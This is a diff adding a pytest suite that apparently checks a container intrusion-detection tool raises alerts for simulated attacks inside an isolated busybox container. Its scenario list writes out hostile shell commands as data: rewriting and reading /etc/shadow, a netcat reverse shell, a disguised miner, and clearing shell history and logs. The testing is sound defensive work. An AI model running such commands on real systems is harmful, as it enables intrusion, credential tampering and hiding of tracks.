@@ -1,0 +1,109 @@
+"""Rules on the running kernel: what an intruder does in a real container raises its rule."""
+
+import json
+import os
+import queue
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+
+from csyspy.capture.live import tier
+
+from .conftest import DEADLINE_S, Runtime
+
+ELSEWHERE = "192.0.2.1"  # of no network (RFC 5737): it exists in the container's own loopback only
+
+
+class Watch:
+    """csyspy with its own rules; gives alerts as they come."""
+
+    def __init__(self, docker: Runtime) -> None:
+        words = [sys.executable, "-m", "csyspy", "rules", "--json", "-U"]
+        environment = {**os.environ, "DOCKER_HOST": f"unix://{docker.socket}"}
+        self.process = subprocess.Popen(words, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=environment)
+        self._alerts: queue.Queue[dict[str, Any]] = queue.Queue()
+        threading.Thread(target=self._read, daemon=True).start()
+
+    def _read(self) -> None:
+        assert self.process.stdout is not None
+        for line in self.process.stdout:
+            self._alerts.put(json.loads(line))
+
+    def next(self, rule: str, timeout_s: float) -> dict[str, Any] | None:
+        """The next alert of a rule; None where none comes in time."""
+        give_up = time.monotonic() + timeout_s
+        while (left_s := give_up - time.monotonic()) > 0:
+            try:
+                alert = self._alerts.get(timeout=left_s)
+            except queue.Empty:
+                return None
+            if alert["rule"] == rule:
+                return alert
+        return None
+
+    def close(self) -> str:
+        """End it; what it said on standard error."""
+        self.process.terminate()
+        return self.process.communicate(timeout=DEADLINE_S)[1]
+
+
+@pytest.fixture(scope="module")
+def container(docker: Runtime) -> str:
+    """A container that waits, in a network of its own that holds ELSEWHERE."""
+    full_id = docker.run("run", "-d", "--name", "victim", "--network", "none", "busybox:lab")
+    pid = docker.run("inspect", "-f", "{{.State.Pid}}", full_id)
+    inside = ["nsenter", "-t", pid, "-n"]
+    subprocess.run([*inside, "ip", "link", "set", "lo", "up"], check=True)
+    subprocess.run([*inside, "ip", "addr", "add", f"{ELSEWHERE}/32", "dev", "lo"], check=True)
+    return full_id
+
+
+@pytest.fixture(scope="module")
+def watch(docker: Runtime, container: str) -> Iterator[Watch]:
+    missing = tier.lacking(tier.Tier.A, tier.possibilities())
+    if missing is not None:
+        pytest.skip(f"needs live capture: {missing.message}")
+    watch = Watch(docker)
+    give_up = time.monotonic() + DEADLINE_S
+    while watch.next("Command run in running container", 0.5) is None:  # it takes a moment until everything is hooked
+        assert time.monotonic() < give_up, watch.close()
+        docker.run("exec", container, "true")
+    yield watch
+    said = watch.close()
+    assert "Traceback" not in said
+
+
+SCENARIOS = {
+    "Credential file read": "echo root::0 > /etc/shadow; cat /etc/shadow",
+    "Configuration below etc written": "echo x > /etc/profile.local",
+    "Program directory changed": "cp /bin/busybox /bin/ls-of-mine",
+    "Package manager in container": "ln -sf busybox /bin/apk; apk add x",
+    "Crypto miner started": "cp /bin/busybox /tmp/xmrig; /tmp/xmrig",
+    "New program run in container": "cp /bin/busybox /tmp/busybox; /tmp/busybox true",
+    "Unexpected outbound connection": f"(nc -l -p 4444 </dev/null & sleep 0.2; echo | nc {ELSEWHERE} 4444)",
+    "Reverse shell": f"(echo exit | nc -l -p 4445 & sleep 0.2; nc {ELSEWHERE} 4445 -e /bin/sh)",
+    "Shell history cleared": "echo x > /root/.bash_history; rm /root/.bash_history",
+    "Log cleared": "mkdir -p /var/log; echo x > /var/log/app.log; : > /var/log/app.log",
+}
+
+
+@pytest.mark.parametrize("rule", SCENARIOS)
+def test_scenario(rule: str, docker: Runtime, container: str, watch: Watch) -> None:
+    docker_exec = ["docker", "-H", f"unix://{docker.socket}", "exec", container, "sh", "-c", f"mkdir -p /root /tmp; {SCENARIOS[rule]}"]
+    subprocess.run(docker_exec, capture_output=True, timeout=DEADLINE_S, check=False)
+    alert = watch.next(rule, DEADLINE_S / 4)
+    assert alert is not None, watch.process.poll()
+    assert alert["output_fields"]["container.name"] == "victim"
+
+
+def test_a_shell_with_a_terminal(docker: Runtime, container: str, watch: Watch) -> None:
+    words = ["script", "-qec", f"docker -H unix://{docker.socket} exec -it {container} sh -c exit", "/dev/null"]
+    subprocess.run(words, stdin=subprocess.DEVNULL, capture_output=True, timeout=DEADLINE_S, check=False)
+    alert = watch.next("Interactive shell in container", DEADLINE_S / 4)
+    assert alert is not None
+    assert alert["output_fields"]["container.name"] == "victim"
